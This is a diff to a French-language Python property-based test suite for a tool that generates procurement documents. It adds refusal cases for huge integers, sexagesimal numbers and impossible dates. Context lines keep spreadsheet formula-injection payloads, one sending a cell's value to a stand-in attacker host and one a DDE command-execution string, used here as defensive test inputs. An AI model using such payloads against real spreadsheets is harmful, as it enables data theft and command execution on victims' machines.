@@ -485,8 +485,10 @@ PREFIXES_FORMULE = ["=1+1", '=HYPERLINK("http://attaquant.example/?"&A1,"Voir")'
                     "=cmd|' /C calc'!A0"]
 DATES_INEXISTANTES = ["2026-02-30", "2026-13-01", "0000-01-01", "2027-02-29", "2026-04-31", "2026-00-10"]
 MEME_CODE, GENERE, REFUS, LIBRE = "même code que l'exemple", "génère", "refus", "libre"
-FAMILLES = ["controle", "controle", "formule", "formule", "zeros", "zeros", "alias", "gros_lots", "variation",
-            "variation", "date_inexistante", "bombe", "valeurs"]
+# Familles qui génèrent (le texte ou la valeur garde son sens) et familles refusées (code 2) : à peu près autant de
+# chaque, pour que la majorité des entrées produise des documents et que chaque refus soit essayé souvent.
+FAMILLES = ["controle", "formule", "zeros", "alias", "gros_lots", "variation",
+            "date_inexistante", "bombe", "entier_enorme", "sexagesimal", "valeurs"]
 
 
 def _textes(donnees: dict) -> list[tuple[dict, str]]:
@@ -539,9 +541,9 @@ def cas_de_fouille(draw):
         attendu = GENERE
     elif famille == "gros_lots":
         modele = donnees["lots"][0]
-        lignes = (modele.get("lignes_prix") or []) * draw(st.integers(1, 8))
+        lignes = (modele.get("lignes_prix") or []) * draw(st.integers(1, 3))
         donnees["lots"] = [{**copy.deepcopy(modele), "numero": n, "intitule": f"{modele['intitule']} ({n})",
-                            "lignes_prix": copy.deepcopy(lignes)} for n in range(1, draw(st.integers(2, 12)) + 1)]
+                            "lignes_prix": copy.deepcopy(lignes)} for n in range(1, draw(st.integers(2, 6)) + 1)]
         donnees.pop("montant_total_estime", None)
         attendu = GENERE
     elif famille == "variation":  # réponses valides voisines : durée, montants, date de lancement
@@ -556,10 +558,19 @@ def cas_de_fouille(draw):
         attendu = LIBRE
     elif famille == "date_inexistante":
         champ = draw(st.sampled_from(["date_lancement", "date_limite_offres"]))
-        bruts["DATE"] = draw(st.sampled_from(DATES_INEXISTANTES))
+        an = draw(st.integers(0, 2100))
+        bruts["DATE"] = draw(st.sampled_from(DATES_INEXISTANTES) | st.sampled_from([
+            f"{an:04d}-02-{draw(st.integers(30, 31))}", f"{an:04d}-{draw(st.integers(13, 99))}-01",
+            f"{an:04d}-04-31", f"{an:04d}-01-{draw(st.integers(32, 99))}", f"0000-0{draw(st.integers(1, 9))}-01"]))
         donnees[champ] = "DATE"
         attendu = REFUS
     elif famille == "bombe":
+        attendu = REFUS
+    elif famille in ("entier_enorme", "sexagesimal"):
+        conteneur, cle = draw(st.sampled_from(_nombres(donnees)))
+        bruts["NOMBRE"] = ("9" * draw(st.integers(4_301, 6_000)) if famille == "entier_enorme"
+                           else f"{draw(st.integers(1, 59))}:{draw(st.integers(0, 59)):02d}")
+        conteneur[cle] = "NOMBRE"
         attendu = REFUS
     else:  # valeurs quelconques à un chemin quelconque
         cle = draw(st.sampled_from(sorted(donnees)))
@@ -617,7 +628,9 @@ def _essayer(dossier: Path, nom: str, texte: str, famille: str, attendu: str, tm
     elif attendu == GENERE:
         assert code in (0, 1), (famille, resultat.output)
     elif attendu == REFUS:
-        assert code == 2 and ("date inexistante" in resultat.output or "alias" in resultat.output), resultat.output
+        raisons = {"date_inexistante": "date inexistante", "bombe": "alias", "entier_enorme": "nombre trop long",
+                   "sexagesimal": "un nombre"}
+        assert code == 2 and raisons[famille] in resultat.output, (famille, resultat.output)
     if code == 2:
         assert not sortie.exists() and "Erreur" in resultat.output
     else:
